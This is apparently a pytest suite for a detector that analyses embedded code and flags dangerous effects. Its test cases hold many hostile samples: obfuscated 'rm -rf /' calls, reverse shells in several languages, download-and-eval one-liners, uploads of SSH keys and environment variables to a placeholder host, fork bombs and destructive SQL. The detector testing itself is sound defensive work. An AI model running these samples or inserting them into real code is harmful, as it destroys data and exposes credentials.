"""Analysis of embedded code: the shell commands it runs and its own effects."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shellverdict.embedded_code import CodeAnalysis, analyze_code
from shellverdict.shell.words import GAP, MAX_TEXT_CHARS, STAR, Word
from shellverdict.verdict import EffectKind
from tests.cases import check_cases
from tests.thorough import try_examples


def analyze(language: str, code: str) -> CodeAnalysis:
    return analyze_code(Word(code), language)


def effect_kinds(analysis: CodeAnalysis) -> list[tuple[EffectKind, frozenset[str]]]:
    return [(effect.kind, effect.traits) for effect in analysis.effects]


@check_cases(
    ("language", "code"),
    [
        ("python", 'import os; os.system("rm -rf /")'),
        ("python", r"import os; os.system(\"rm -rf /\")"),
        ("python", 'from os import system as s; s("r" + "m -rf /")'),
        ("python", '__import__("os").system("rm -rf /")'),
        ("python", 'getattr(__import__("o" + "s"), "sys" + "tem")("rm -rf /")'),
        ("python", 'import importlib; importlib.import_module("os").popen("rm -rf /")'),
        ("python", 'import os; f = os.system; f("rm -rf /")'),
        ("python", 'import subprocess as sp; sp.run(["rm", "-rf", "/"])'),
        ("python", 'import subprocess; subprocess.Popen("rm -rf /", shell=True)'),
        ("python", 'import os; os.execvp("rm", ["rm", "-rf", "/"])'),
        ("python", 'import os; os.execlp("rm", "rm", "-rf", "/")'),
        ("python", "exec(\"import os; os.system('rm -rf /')\")"),
        ("python", 'import os; os.system("/ fr- mr"[::-1])'),
        ("python", 'import os; os.system("".join(map(chr, [114, 109, 32, 45, 114, 102, 32, 47])))'),
        ("python", 'import os; os.system("".join(chr(c) for c in [114, 109, 32, 45, 114, 102, 32, 47]))'),
        ("python", 'import os; os.system(bytes.fromhex("726d202d7266202f").decode())'),
        ("python", 'import os; c = "rm %s /" % "-rf"; os.system(c)'),
        ("python", "import os; a = 'rm'; os.system(f'{a} -rf /')"),
        ("python", 'import os\nprint "old"\nos.system("rm -rf /")'),
        ("perl", 'system("rm -rf /")'),
        ("perl", r"system(\"rm -rf /\")"),
        ("perl", 'system "rm", "-rf", "/"'),
        ("perl", "exec qw(rm -rf /)"),
        ("perl", "`rm -rf /`"),
        ("perl", "print qx{rm -rf /}"),
        ("perl", '$c = "rm -rf "; $c .= "/"; system($c)'),
        ("perl", 'open(F, "rm -rf / |")'),
        ("perl", "s{x}{system('rm -rf /')}e"),
        ("ruby", 'system("rm -rf /")'),
        ("ruby", "puts `rm -rf /`"),
        ("ruby", "%x(rm -rf /)"),
        ("ruby", 'IO.popen(["rm", "-rf", "/"])'),
        ("ruby", 'Kernel.exec "rm -rf /"'),
        ("php", 'shell_exec("rm -rf /");'),
        ("php", "<?php echo `rm -rf /`; ?>"),
        ("node", "require('child_process').execSync('rm -rf /')"),
        ("node", "const {exec} = require('child_process'); exec('rm -rf /')"),
        ("node", "require('child_' + 'process').spawn('rm', ['-rf', '/'])"),
        ("node", "/\"/; require('child_process').execSync('rm -rf /'); /\"/"),
        ("lua", "os.execute 'rm -rf /'"),
        ("lua", 'io.popen("rm -rf /")'),
        ("awk", 'BEGIN { system("rm -rf /") }'),
        ("awk", 'BEGIN { cmd = "rm -rf /"; cmd | getline }'),
        ("sed", "1e rm -rf /"),
        ("sed", r"s/.*/rm -rf \//e"),
        ("sed", "/x/{p;e rm -rf /\n}"),
        ("vim", "!rm -rf /"),
        ("vim", "silent! r !rm -rf /"),
        ("vim", "call system('rm -rf /') | q"),
        ("vim", 'exe "!rm -rf /"'),
        ("vim", "py3 import os; os.system('rm -rf /')"),
        ("ed", "1d\n!rm -rf /\nw"),
        ("sql:postgres", r"\! rm -rf /"),
        ("sql:postgres", "select 1 \\! rm -rf /"),
        ("sql:postgres", "COPY t TO PROGRAM 'rm -rf /'"),
        ("sql:mysql", "system rm -rf /"),
        ("sql:sqlite", ".shell rm -rf /"),
        ("sql:sqlite", ".output |rm -rf /"),
        ("sql:mssql", "EXEC xp_cmdshell 'rm -rf /'"),
        ("make", "all:;rm -rf /"),
        ("make", "X = rm -rf\nall:\n\t@$(X) /"),
        ("make", "X := $(shell rm -rf /)"),
        ("crontab", "*/5 * * * * rm -rf /"),
        ("crontab", "@reboot rm -rf /"),
        ("tcl", "exec rm -rf /"),
        ("tcl", "set x [exec rm -rf /]"),
        ("expect", "spawn rm -rf /; interact"),
        ("gdb", "shell rm -rf /"),
        ("gdb", 'call (int)system("rm -rf /")'),
        ("osascript", 'do shell script "rm -rf /"'),
        ("jshell", 'Runtime.getRuntime().exec("rm -rf /");'),
        ("jshell", 'new ProcessBuilder("rm", "-rf", "/").start();'),
        ("groovy", '"rm -rf /".execute()'),
        ("groovy", '["rm", "-rf", "/"].execute()'),
        ("scala", 'import sys.process._; "rm -rf /".!'),
        ("julia", "run(`rm -rf /`)"),
        ("r", 'system2("rm", c("-rf", "/"))'),
        ("elixir", 'System.cmd("rm", ["-rf", "/"])'),
        ("erlang", 'os:cmd("rm -rf /")'),
        ("elisp", '(shell-command "rm -rf /")'),
        ("scheme", '(system* "rm" "-rf" "/")'),
        ("clojure", '(clojure.java.shell/sh "rm" "-rf" "/")'),
        ("haskell", 'System.Process.callCommand "rm -rf /"'),
        ("prolog", "shell('rm -rf /')"),
        ("octave", 'system("rm -rf /")'),
        ("fish", "rm -rf /"),
        ("mongo", 'run("rm", "-rf", "/")'),
        ("lftp", "!rm -rf /"),
    ],
)
def test_shell_commands_that_embedded_code_starts_are_found(language: str, code: str) -> None:
    scripts = [script.strip() for script in analyze(language, code).scripts]
    assert "rm -rf /" in [script.removeprefix("cat rows | ") for script in scripts]


@check_cases(
    ("code", "script"),
    [
        ("grep x /dev/null; rm -rf /", "grep x /dev/null; rm -rf /"),
        ("silent lgrepa! x /dev/null; rm -rf / | copen", "grep x /dev/null; rm -rf / "),
        ("make; rm -rf /", "make ; rm -rf /"),
        ("lmak -v; rm -rf /", "make -v; rm -rf /"),
    ],
)
def test_arguments_of_vim_commands_that_run_grep_or_make_are_shell_code(code: str, script: str) -> None:
    assert analyze("vim", code).scripts == (script,)


@check_cases(
    ("language", "code"),
    [
        ("python", 'import shutil; shutil.rmtree("/home")'),
        ("perl", 'use File::Path; rmtree("/home")'),
        ("ruby", "require 'fileutils'; FileUtils.rm_rf '/home'"),
        ("node", "require('fs').rmSync('/home', {recursive: true, force: true})"),
        ("julia", 'rm("/home", recursive=true, force=true)'),
        ("r", 'unlink("/home", recursive=TRUE)'),
        ("vim", 'call delete("/home", "rf")'),
        ("groovy", 'new File("/home").deleteDir()'),
        ("elixir", 'File.rm_rf!("/home")'),
        ("elisp", '(delete-directory "/home" t)'),
        ("tcl", "file delete -force /home"),
        ("powershell", "Remove-Item -Recurse -Force /home"),
        ("powershell", "rm -r -fo /home"),
        ("cmd", "rd /s /q home"),
    ],
)
def test_recursive_deletion_in_embedded_code_is_reported_as_an_rm_command(language: str, code: str) -> None:
    assert [script.replace("/home", "home") for script in analyze(language, code).scripts] == [
        "rm -rf -- home"
    ]


@check_cases(
    ("language", "code"),
    [
        ("python", 'open("/etc/passwd", "w").write("x")'),
        ("python", 'from pathlib import Path; Path("/etc/passwd").write_text("x")'),
        ("perl", 'open(F, ">/etc/passwd")'),
        ("ruby", 'File.write("/etc/passwd", "x")'),
        ("php", 'file_put_contents("/etc/passwd", "x");'),
        ("node", "require('fs').writeFileSync('/etc/passwd', 'x')"),
        ("awk", '{ print > "/etc/passwd" }'),
        ("sed", "w /etc/passwd"),
        ("vim", "w! /etc/passwd"),
        ("ed", "w /etc/passwd"),
        ("sql:sqlite", ".once /etc/passwd"),
    ],
)
def test_file_overwrite_in_embedded_code_is_found(language: str, code: str) -> None:
    analysis = analyze(language, code)
    targets = [effect.target for effect in analysis.effects if effect.kind is EffectKind.OVERWRITE]
    assert ": > /etc/passwd" in analysis.scripts or targets == ["/etc/passwd"]


def test_code_that_deletes_files_in_a_loop_is_reported_as_rm_of_all_files_of_the_directory() -> None:
    loop = 'import glob, os\nfor f in glob.glob("/*"):\n    os.remove(f)'
    assert analyze("python", loop).scripts == (f"rm -f -- /{STAR}", f"xargs rm -f -- /{STAR}")
    assert analyze("python", 'import os; [os.remove(f) for f in os.listdir("/etc")]').scripts == (
        f"rm -f -- /etc/{STAR}",
        f"xargs rm -f -- /etc/{STAR}",
    )
    assert analyze("perl", 'unlink glob("/*")').scripts == (f"rm -f -- /{STAR}", f"xargs rm -f -- /{STAR}")


def test_home_directory_expressions_in_python_code_are_translated_to_the_shell_variable_home() -> None:
    assert analyze("python", "import os; os.system(f\"rm -rf {os.environ['HOME']}\")").scripts == (
        "rm -rf $HOME",
    )
    assert analyze("python", 'import shutil, os; shutil.rmtree(os.path.expanduser("~"))').scripts == (
        'rm -rf -- "$HOME"',
    )
    assert analyze("python", 'from pathlib import Path; (Path.home() / "x").unlink()').scripts == (
        'rm -f -- "$HOME"/x',
    )


def test_command_after_chdir_in_embedded_code_is_analyzed_in_the_new_directory() -> None:
    assert analyze("python", 'import os\nos.chdir("/")\nos.system("rm -rf *")').scripts == ("cd /; rm -rf *",)


@check_cases(
    ("language", "code"),
    [
        ("python", 'print("rm -rf /")'),
        ("python", r"print(\"rm -rf /\")"),
        ("python", "print(1+1)"),
        ("python", 'import json, sys; print(json.load(sys.stdin)["eval"])'),
        ("python", 'import ast; ast.literal_eval("1")'),
        ("perl", 'print "system(rm)"'),
        ("perl", "s/foo/bar/"),
        ("perl", "print if /system/"),
        ("ruby", "puts 'rm -rf /'"),
        ("php", 'echo "exec";'),
        ("node", "console.log('rm -rf /')"),
        ("node", "console.log(process.version)"),
        ("node", "console.log(/a(b)/.exec('rm -rf /'))"),
        ("lua", "print('os.execute')"),
        ("awk", "{print $1,$3}"),
        ("awk", "$3 > 5 || $1 > 2 {print $1}"),
        ("awk", "/rm -rf/ {n++} END {print n}"),
        ("sed", "s/foo/bar/g"),
        ("sed", "10,20p"),
        ("sed", "/DROP TABLE/p"),
        ("sed", r"s/x/\/e/;s,a,b,"),
        ("sed", "s#[/e]#x#g"),
        ("vim", "%s/foo/bar/g | wq"),
        ("vim", "set nu"),
        ("vim", "42"),
        ("gdb", "bt"),
        ("sql:postgres", "SELECT * FROM users LIMIT 5"),
        ("sql:postgres", "SELECT * FROM t WHERE note = '; DROP TABLE x'"),
        ("sql:postgres", "INSERT INTO log VALUES ('drop table x')"),
        ("sql:postgres", "DELETE FROM users WHERE id = 3"),
        ("sql:postgres", "EXPLAIN DELETE FROM users"),
        ("sql:postgres", 'SELECT "drop table" FROM t -- drop table x'),
        ("sql:postgres", r"\dt"),
        ("sql:mysql", "SHOW CREATE TABLE truncate_log"),
        ("sql:mysql", r"SELECT '\'; DROP TABLE x; --'"),
        ("sql:sqlite", ".tables"),
        ("mongo", "db.users.find({})"),
        ("mongo", "db.users.deleteMany({a: 1})"),
        ("tcl", "puts {exec rm}"),
        ("powershell", "Get-ChildItem | Where-Object { $_.Length -gt 10 }"),
        ("powershell", "Write-Host 'rm -rf /'"),
        ("binary", "rm -rf /"),
        ("unknown-language", "rm -rf /"),
    ],
)
def test_harmless_embedded_code_has_no_effects(language: str, code: str) -> None:
    assert analyze(language, code) == CodeAnalysis()


@check_cases(
    ("dialect", "code", "trait"),
    [
        ("postgres", "DROP TABLE users", "drop"),
        ("postgres", "select 1; drop database prod", "drop"),
        ("sqlite", "DROP/**/TABLE users", "drop"),
        ("postgres", "drop schema public cascade", "drop"),
        ("postgres", "TRUNCATE a, b", "truncate"),
        ("postgres", "DELETE FROM users", "delete-all"),
        ("postgres", "DELETE FROM users WHERE 1=1", "delete-all"),
        ("postgres", "UPDATE users SET admin=true", "update-all"),
        ("postgres", "ALTER TABLE users DROP COLUMN email", "alter-drop"),
        ("postgres", "GRANT ALL ON ALL TABLES IN SCHEMA public TO public", "grant"),
        ("postgres", "WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d", "delete-all"),
        ("postgres", "EXPLAIN ANALYZE DELETE FROM users", "delete-all"),
        ("postgres", "DO $$ BEGIN EXECUTE 'drop table users'; END $$", "drop"),
        ("postgres", r"select '\'; DROP TABLE users; --'", "drop"),
        ("mysql", "/*!50000 DROP TABLE users */", "drop"),
        ("mysql", "select 5--1; drop table users", "drop"),
        ("mysql", "PREPARE s FROM 'DROP TABLE users'", "drop"),
        ("mssql", "SELECT 1 DROP TABLE users", "drop"),
    ],
)
def test_destructive_sql_statements_have_the_expected_effect_such_as_drop_or_truncate(
    dialect: str, code: str, trait: str
) -> None:
    assert (EffectKind.DATABASE, frozenset({trait})) in effect_kinds(analyze(f"sql:{dialect}", code))


@check_cases("code", ["db.dropDatabase()", "db.users.drop()", "db.users.deleteMany({})", "db.x.remove({})"])
def test_destructive_mongodb_calls_are_found(code: str) -> None:
    assert [kind for kind, _ in effect_kinds(analyze("mongo", code))] == [EffectKind.DATABASE]


@pytest.mark.parametrize(
    ("language", "code"),
    [
        (
            "python",
            "import socket,subprocess as p,os;s=socket.socket();s.connect(('x',1));"
            "os.dup2(s.fileno(),0);p.call(['sh'])",
        ),
        ("perl", 'use Socket;connect(S,sockaddr_in(1,inet_aton("x")));open(STDIN,">&S");exec("/bin/sh -i")'),
        ("ruby", 'require "socket"; s = TCPSocket.new("x", 1); exec "/bin/sh", in: s, out: s'),
        ("php", '$s=fsockopen("x",1);exec("sh <&3 >&3 2>&3");'),
        (
            "node",
            "require('net').connect(1,'x',function(){this.pipe(require('child_process').spawn('/bin/sh').stdin)})",
        ),
        ("awk", 'BEGIN{s="/inet/tcp/0/h/1";while(1){s|&getline c;while(c|getline)print|&s}}'),
        ("powershell", '$c = New-Object Net.Sockets.TCPClient("x",1); iex $d'),
    ],
)
def test_reverse_shells_in_embedded_code_are_found(language: str, code: str) -> None:
    assert EffectKind.REVERSE_SHELL in [kind for kind, _ in effect_kinds(analyze(language, code))]


@check_cases(
    ("language", "code", "trait"),
    [
        ("python", 'import urllib.request as u; exec(u.urlopen("http://x").read())', "network"),
        ("python", 'import requests\nd = requests.get("http://x").text\nexec(d)', "network"),
        ("python", 'import base64; exec(base64.b64decode("cHJpbnQoMSk="))', "decoded"),
        ("python", "import base64, sys; exec(base64.b64decode(sys.argv[1]))", "decoded"),
        ("ruby", 'require "net/http"; eval(Net::HTTP.get(URI("http://x")))', "network"),
        ("php", 'eval(base64_decode("c3lzdGVtKCdpZCcpOw=="));', "decoded"),
        ("php", 'eval(file_get_contents("http://x"));', "network"),
        ("node", "fetch('http://x').then(r => r.text()).then(eval)", "network"),
        ("node", "eval(atob('cHJvY2Vzcw=='))", "decoded"),
        ("powershell", "iex (iwr http://x)", "network"),
        ("powershell", "iwr http://x | iex", "network"),
        ("powershell", "I`EX (New-Object Net.WebClient).DownloadString('http://x')", "network"),
    ],
)
def test_eval_of_downloaded_or_decoded_code_is_reported_with_the_origin_of_the_code(
    language: str, code: str, trait: str
) -> None:
    assert any(
        kind is EffectKind.RUN_UNREAD and trait in traits
        for kind, traits in effect_kinds(analyze(language, code))
    )


@check_cases(
    ("language", "code"),
    [
        ("python", "exec(input())"),
        ("python", "import os, sys; getattr(os, sys.argv[1])(sys.argv[2])"),
        ("python", GAP),
        ("node", GAP),
        ("sql:postgres", GAP),
        ("php", "eval($x);"),
        ("ruby", 'eval ARGV.join(" ")'),
    ],
)
def test_execution_of_code_known_only_at_run_time_is_reported_as_unreadable(language: str, code: str) -> None:
    assert EffectKind.UNREADABLE in [kind for kind, _ in effect_kinds(analyze(language, code))]


def test_command_in_base64_encoded_python_code_that_is_decoded_and_evaluated_is_found() -> None:
    encoded = base64.b64encode(b"import os; os.system('rm -rf /')").decode()
    assert "rm -rf /" in analyze("python", f"import base64; exec(base64.b64decode('{encoded}'))").scripts


def test_embedded_code_that_reads_and_sends_a_file_is_classified_as_an_upload() -> None:
    scripts = analyze(
        "python", 'import requests; requests.post("http://x", data=open("/home/u/.ssh/id_rsa").read())'
    ).scripts
    assert "curl --data-binary @/home/u/.ssh/id_rsa http://x" in scripts


def test_endless_fork_loop_in_embedded_code_is_classified_as_a_fork_bomb() -> None:
    assert effect_kinds(analyze("python", "import os\nwhile True: os.fork()")) == [
        (EffectKind.FORK_BOMB, frozenset())
    ]


def test_embedded_code_over_the_length_limit_is_reported_as_unreadable() -> None:
    analysis = analyze("python", "x = 1\n" * MAX_TEXT_CHARS)
    assert EffectKind.UNREADABLE in [kind for kind, _ in effect_kinds(analysis)]


LANGUAGES = [
    *(
        "python",
        "perl",
        "ruby",
        "php",
        "node",
        "lua",
        "awk",
        "sed",
        "ed",
        "vim",
        "gdb",
        "make",
        "make-value",
        "crontab",
    ),
    *(
        "tcl",
        "expect",
        "powershell",
        "cmd",
        "fish",
        "mongo",
        "sql:postgres",
        "sql:mysql",
        "sql:sqlite",
        "sql:mssql",
    ),
    *(
        "sql:oracle",
        "r",
        "julia",
        "octave",
        "osascript",
        "groovy",
        "scala",
        "jshell",
        "elixir",
        "erlang",
        "haskell",
    ),
    *("prolog", "elisp", "scheme", "lisp", "clojure", "lftp", "sftp", "binary", ""),
    "go",
]
_CODE_FRAGMENTS = st.sampled_from(
    [
        *(
            "system(",
            "exec ",
            "'",
            '"',
            "`",
            "\\",
            "(",
            ")",
            "{",
            "}",
            "[",
            "]",
            "|",
            ";",
            "\n",
            "\t",
            "=",
            "$",
            "@",
            "%",
            "#",
        ),
        *(
            "s/",
            "/e",
            "e ",
            "w ",
            "eval ",
            "open(",
            "${",
            "$(",
            "#{",
            "q{",
            "qx(",
            "DROP ",
            "DELETE FROM x ",
            "/*",
            "*/",
            "--",
        ),
        *(
            "$$",
            "\\!",
            ".shell ",
            "import os\n",
            "os.",
            "rm",
            "-rf",
            "/",
            "getline",
            "print ",
            ">",
            "<",
            "&",
            "!",
            ":",
            ",",
            GAP,
        ),
    ]
)


@try_examples(400)
@given(
    st.sampled_from(LANGUAGES),
    st.one_of(
        st.text(st.characters(exclude_categories=()), max_size=80),
        st.lists(_CODE_FRAGMENTS, max_size=25).map("".join),
    ),
)
def test_analysis_of_arbitrary_text_as_code_never_raises_an_exception(language: str, code: str) -> None:
    assert isinstance(analyze(language, code), CodeAnalysis)


def test_commands_that_awk_prints_into_a_shell_are_found() -> None:
    assert analyze("awk", 'BEGIN { print "rm -rf /" | "sh" }').scripts == ("echo 'rm -rf /' | sh",)
    assert analyze("awk", '{ print "rm", $1 | "sh" }').scripts[0].endswith("| sh")


@check_cases(
    ("language", "code"),
    [
        ("perl", "fork while 1"),
        ("ruby", "loop { fork }"),
        ("php", "while(1) pcntl_fork();"),
    ],
)
def test_fork_bombs_in_perl_ruby_and_php_are_found(language: str, code: str) -> None:
    assert (EffectKind.FORK_BOMB, frozenset()) in effect_kinds(analyze(language, code))


@check_cases(
    ("language", "code"),
    [
        ("node", 'const {execSync: x} = require("child_process"); x("rm -rf /")'),
        ("node", 'const c = require("child_process").execSync; c("rm -rf /")'),
        ("node", 'require("child_process")["execSync"]("rm -rf /")'),
        ("node", 'require("child_process").execSync(["rm", "-rf", "/"].join(" "))'),
        ("node", "console.log(`${require('child_process').execSync('rm -rf /')}`)"),
        ("ruby", 'puts "#{system("rm -rf /")}"'),
        ("ruby", 'Kernel.send(:system, "rm -rf /")'),
        ("php", '$f = "sys" . "tem"; $f("rm -rf /");'),
        ("php", 'call_user_func("system", "rm -rf /");'),
        ("python", 'from os import *; system("rm -rf /")'),
        ("python", 'import subprocess; c = ["rm", "-rf"]; c.append("/"); subprocess.run(c)'),
        ("python", 'import os; (os.system if 1 else 0)("rm -rf /")'),
        ("python", "!rm -rf /"),
        ("dc", "!rm -rf /"),
        ("gnuplot", 'print system("rm -rf /")'),
        ("tex", r"\immediate\write18{rm -rf /}"),
    ],
)
def test_shell_command_started_through_an_alias_or_reflection_in_embedded_code_is_found(
    language: str, code: str
) -> None:
    assert "rm -rf /" in analyze(language, code).scripts


def test_drop_table_in_an_sql_prepared_statement_is_found() -> None:
    analysis = analyze("sql:mysql", "SET @q = 'DROP TABLE users'; PREPARE s FROM @q; EXECUTE s")
    assert (EffectKind.DATABASE, frozenset({"drop"})) in effect_kinds(analysis)


@check_cases(
    ("language", "code"),
    [
        ("python", 'import os\nc = "rm -rf /"\nos.system(c)\nc = "ls"'),
        ("python", 'import os\nc = "rm -rf /"\nif False:\n    c = "ls"\nos.system(c)'),
        ("python", 'import os\ndef f():\n    os.system(c)\nc = "rm -rf /"\nf()'),
        ("perl", '$c = "rm -rf /"; $c = "ls" if 0; system($c)'),
        ("node", 'let c = "rm -rf /"; if (0) c = "ls"; require("child_process").exec(c)'),
    ],
)
def test_dangerous_command_in_a_variable_is_found_even_if_the_code_also_assigns_a_harmless_value(
    language: str, code: str
) -> None:
    assert "rm -rf /" in analyze(language, code).scripts


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("kotlin", 'Runtime.getRuntime().exec("rm -rf /")'),
        ("raku", 'shell "rm -rf /"'),
        ("ocaml", 'Sys.command "rm -rf /"'),
        ("swift", 'Process.launchedProcess(launchPath: "rm", arguments: ["-rf", "/"])'),
        ("lisp", '(run-program "rm" (list "-rf" "/"))'),
    ],
)
def test_shell_command_started_by_kotlin_raku_ocaml_swift_or_lisp_code_is_found(
    language: str, code: str
) -> None:
    assert "rm -rf /" in analyze(language, code).scripts


@check_cases(
    "code",
    [
        'import functools, os; functools.partial(os.system, "rm -rf /")()',
        'import threading, os; threading.Thread(target=os.system, args=("rm -rf /",)).start()',
        'import atexit, os; atexit.register(os.system, "rm -rf /")',
        'import timeit; timeit.timeit("os.system(\'rm -rf /\')", "import os", number=1)',
        'import os; os.system.__call__("rm -rf /")',
    ],
)
def test_shell_command_started_through_a_callback_in_python_code_is_found(code: str) -> None:
    assert "rm -rf /" in analyze("python", code).scripts


def test_embedded_code_that_sends_environment_variables_is_classified_as_an_upload() -> None:
    code = 'import os, requests; requests.post("http://x", json=dict(os.environ))'
    assert analyze("python", code).scripts == ("printenv | curl -d @- http://x",)


@check_cases(
    ("language", "code"),
    [
        ("powershell", "iex " * 4000),
        ("tcl", "eval " * 3000),
        ("vim", "g/x/" * 4000),
        ("vim", "norm :" * 2500),
        ("python", "x = [x]\n" * 2000),
        ("python", "exec('" * 2000),
        ("perl", "$a .= $a;" * 1800),
        ("node", "a = 'x';" + "a = a + a;" * 1600),
        ("ruby", '"#{' * 5000),
        ("sql:mysql", "execute '" * 1500),
    ],
)
def test_commands_found_in_deeply_nested_or_exponentially_growing_code_are_limited_in_length(
    language: str, code: str
) -> None:
    assert all(len(script) < 20_000 for script in analyze(language, code).scripts)


@check_cases(
    ("language", "code", "scripts"),
    [
        ("ruby", 'd = "/srv/a"\nsystem "rm -rf " + d\nputs "x"', ["rm -rf /srv/a"]),
        ("ruby", 'c = "ls"\nputs "rm -rf /"\nsystem c\nputs "/"', ["ls"]),
        ("ruby", 'system "ls"\n"rm -rf /"', ["ls"]),
        ("node", 'const cp = require("child_process")\nconst c = "ls"\ncp.execSync(c)\n"rm"', ["ls"]),
        ("node", 'const d = "a"\nconst e = "b"\nrequire("fs").unlinkSync(d)', ["rm -f -- a"]),
        ("node", 'let c = "ls"\n+"x"\nrequire("child_process").execSync(c)', ["ls"]),
        ("lua", 'local c = "ls"\nprint "rm -rf /"\nos.execute(c)', ["ls"]),
        ("lua", 'os.remove "a"\nprint "b"', ["rm -f -- a"]),
        ("awk", 'BEGIN {\n  c = "ls"\n  print "rm -rf /"\n  system(c)\n}', ["ls"]),
        ("awk", 'BEGIN {\n  x = "a"\n  "date" | getline d\n}', ["date"]),
        ("awk", '{ print $1\n  "date" | getline d }', ["date"]),
        ("perl", 'my $c = "ls"\n; system "id"\n; print "rm"', ["id"]),
    ],
)
def test_statements_on_different_lines_are_not_joined(language: str, code: str, scripts: list[str]) -> None:
    assert list(analyze(language, code).scripts) == scripts


CONNECTED = 'import os, socket, subprocess; s = socket.create_connection(("h", 1)); '
PERL_CONNECTED = 'use Socket; connect(S, sockaddr_in(1, inet_aton("h"))); '


@check_cases(
    ("language", "code"),
    [
        ("perl", PERL_CONNECTED + 'open(STDIN, "<&S"); exec("cat /etc/hosts")'),
        ("perl", PERL_CONNECTED + 'open(STDOUT, ">&", S); exec("cat /etc/hosts")'),
        ("perl", PERL_CONNECTED + 'exec("/bin/sh -i")'),
        ("perl", PERL_CONNECTED + "exec(\"sh -c 'cat' <&3\")"),
        ("perl", 'use IO::Socket; $s = IO::Socket::INET->new("h:1"); while (<$s>) { system($_) }'),
        ("php", '$s = fsockopen("h", 1); exec("/bin/sh -i");'),
        ("php", "$s = fsockopen('h', 1); exec(\"/bin/sh -c 'cat' <&3 >&3\");"),
        ("php", '$s = fsockopen("h", 1); proc_open("/bin/bash", [$s, $s, $s], $pipes);'),
        ("php", '$s = stream_socket_client("tcp://h:1"); proc_open("/bin/sh", [$s, $s, $s], $p);'),
        ("php", '$s = fsockopen("h", 1); while ($c = fgets($s)) { fwrite($s, shell_exec($c)); }'),
        ("python", CONNECTED + "os.dup2(s.fileno(), 0); os.execlp('cat', 'cat')"),
        ("python", CONNECTED + "subprocess.call(['/bin/sh', '-i'], stdin=s, stdout=s)"),
        ("python", CONNECTED + "subprocess.run(['python3', '-i'], stdin=s, stdout=s)"),
        ("python", CONNECTED + "os.system('sh -c cat <&3 >&3')"),
        ("python", CONNECTED + "os.system(s.recv(99).decode())"),
        (
            "python",
            "import socketserver, subprocess\n"
            "class H(socketserver.BaseRequestHandler):\n"
            "    def handle(self): subprocess.run(['sh'], stdin=self.request, stdout=self.request)\n"
            "socketserver.TCPServer(('', 1), H).serve_forever()",
        ),
    ],
)
def test_socket_handed_to_a_program_is_exactly_one_reverse_shell(language: str, code: str) -> None:
    kinds = [kind for kind, _ in effect_kinds(analyze(language, code))]
    assert kinds.count(EffectKind.REVERSE_SHELL) == 1


@check_cases(
    ("language", "code"),
    [
        ("perl", PERL_CONNECTED + 'open(STDERR, ">&STDOUT"); print <S>'),
        ("perl", PERL_CONNECTED + 'exec("date")'),
        ("perl", 'open(STDIN, "<&S"); exec("/bin/sh -i")'),
        ("php", '$s = fsockopen("h", 1); exec("date");'),
        ("php", 'exec("/bin/sh -i");'),
        ("python", CONNECTED + "subprocess.run(['python3', 'send.py'])"),
        ("python", CONNECTED + "print(s.recv(99))"),
        ("python", "import os; os.dup2(3, 0); os.execlp('sh', 'sh', '-i')"),
    ],
)
def test_connection_or_shell_alone_is_not_a_reverse_shell(language: str, code: str) -> None:
    assert EffectKind.REVERSE_SHELL not in [kind for kind, _ in effect_kinds(analyze(language, code))]
